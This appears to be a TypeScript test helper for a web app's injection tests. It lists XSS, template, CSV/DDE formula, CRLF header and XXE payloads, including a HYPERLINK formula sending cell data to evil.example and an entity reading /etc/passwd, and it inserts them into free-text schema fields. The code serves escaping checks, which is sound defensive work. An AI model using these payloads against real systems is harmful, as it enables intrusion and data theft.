import type { JsonSchema } from './routes.ts';

/**
 * Script, markup, template, formula and header payloads (issue 9). Each one, put into a text
 * field, must come out of every page and file as the same text and nothing more.
 */
export const PAYLOADS = [
  '<script>window.__pwned=1;alert(1)</script>',
  '"><img src=x onerror="window.__pwned=1;alert(1)">',
  "'><svg onload=window.__pwned=1>",
  'javascript:window.__pwned=1//',
  '</script><script>window.__pwned=1</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template payload, on purpose
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  '[click](javascript:window.__pwned=1) <iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">raw html</a> <b onmouseover=alert(1)>b</b>',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  'CRLF\r\nX-Injected: 1\r\nLOCATION:evil',
  ']]><!ENTITY xxe SYSTEM "file:///etc/passwd"><x>&xxe;</x><![CDATA[',
] as const;

/** Markdown-only payloads (links and raw HTML are what a renderer might let through). */
export const MARKDOWN_PAYLOAD = [
  '[x](javascript:window.__pwned=1)',
  '![img](javascript:window.__pwned=1)',
  '<img src=x onerror=window.__pwned=1>',
  '<script>window.__pwned=1</script>',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<details open ontoggle=window.__pwned=1>',
].join('\n\n');

/** Whether a string field of a schema is free text (not an id, code, date, enum or pattern). */
function isFreeText(schema: JsonSchema, name: string): boolean {
  return (
    schema?.type === 'string' &&
    !schema.enum &&
    !schema.pattern &&
    !schema.format &&
    !/(Id|Ids)$/.test(name) &&
    !['slug', 'memberState', 'country', 'timeZone', 'email', 'code', 'number', 'position'].includes(
      name,
    )
  );
}

/**
 * `example` with every free-text string the schema allows replaced by `text`: LocalizedText
 * values in both languages and plain text fields alike, cut to each field's maximum.
 */
export function withText(schema: JsonSchema, example: unknown, text: string, name = ''): unknown {
  if (!schema) {
    return example;
  }
  const alt = schema.anyOf ?? schema.oneOf;
  if (Array.isArray(alt)) {
    const branch = alt.find((s: JsonSchema) => s.type !== 'null') ?? alt[0];
    return example === null ? example : withText(branch, example, text, name);
  }
  if (schema.type === 'object' && example && typeof example === 'object') {
    const out: Record<string, unknown> = {};
    for (const [key, value] of Object.entries(example as Record<string, unknown>)) {
      out[key] = withText(schema.properties?.[key], value, text, key);
    }
    return out;
  }
  if (schema.type === 'array' && Array.isArray(example)) {
    return example.map((v) => withText(schema.items, v, text, name));
  }
  if (typeof example === 'string' && isFreeText(schema, name)) {
    return text.slice(0, schema.maxLength ?? text.length);
  }
  return example;
}
